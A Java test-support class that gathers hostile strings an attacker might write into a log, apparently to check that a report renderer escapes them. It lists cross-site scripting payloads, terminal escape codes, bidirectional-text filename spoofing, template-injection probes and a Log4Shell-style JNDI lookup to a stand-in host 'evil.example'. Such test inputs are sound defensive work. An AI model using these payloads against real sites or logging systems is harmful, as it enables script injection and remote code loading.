package io.casebook.report;

import java.util.stream.Stream;

/// Strings that an attacker, or just a broken program, may put into a log.
final class Hostile {
    /// Everything at once.
    static final String ALL = String.join(" ", strings().toList());

    private Hostile() {}

    static Stream<String> strings() {
        return Stream.of(
                "<script>window.hacked = 1</script>",
                "</script></style></title><img src=x onerror='window.hacked = 2'>",
                "\" onmouseover=\"window.hacked = 3\" autofocus onfocus='window.hacked = 4' x=\"",
                "' onclick='window.hacked = 5",
                "<svg/onload=alert(1)><a href=\"javascript:alert(1)\">x</a>",
                "java\nscript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "--><!--<![CDATA[ ]]> &lt;b&gt; &#x3c;",
                "\u001b[31mred\u001b[0m \u001b]0;title\u0007",
                "\u202egnp.exe\u202c \u2066isolated\u2069",
                "nul \u0000 bell \u0007 delete \u007f next line \u0085 csi \u009b31m",
                "half \ud83d of a pair and the other \ude00",
                "zero\u200bwidth\u200d \ufeffmark \u00adsoft \u2028line \udb40\udc41tag",
                "``` fence ```` and ` tick | pipe @everyone #123 https://evil.example/",
                "expression(alert(1)); background:url(https://evil.example/x)",
                "${jndi:ldap://evil.example} #{7*7} {{7*7}} %00",
                "very long ".repeat(2000));
    }
}
